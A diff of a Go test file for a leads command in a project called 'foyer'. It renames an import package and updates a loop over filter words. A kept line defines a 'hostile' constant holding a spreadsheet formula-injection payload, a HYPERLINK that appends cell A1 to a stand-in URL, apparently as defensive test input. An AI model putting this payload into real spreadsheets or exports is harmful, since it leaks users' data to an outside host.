@@ -8,7 +8,7 @@ import (
 	"time"
 
 	"foyer/internal/lead"
-	"foyer/internal/operator"
+	"foyer/internal/operator/query"
 	"foyer/internal/store/storetest"
 )
 
@@ -19,7 +19,7 @@ const hostile = `=HYPERLINK("https://example.com/?leak="&A1)`
 func TestFindLeads(t *testing.T) {
 	storetest.Parallel(t)
 	help, _, _ := run(t, "leads", "list", "--help")
-	for _, w := range operator.FilterWords {
+	for _, w := range query.FilterWords {
 		if !strings.Contains(help, "--"+w.Name+"="+w.Value) {
 			t.Errorf("there is no flag for %s", w.Name)
 		}
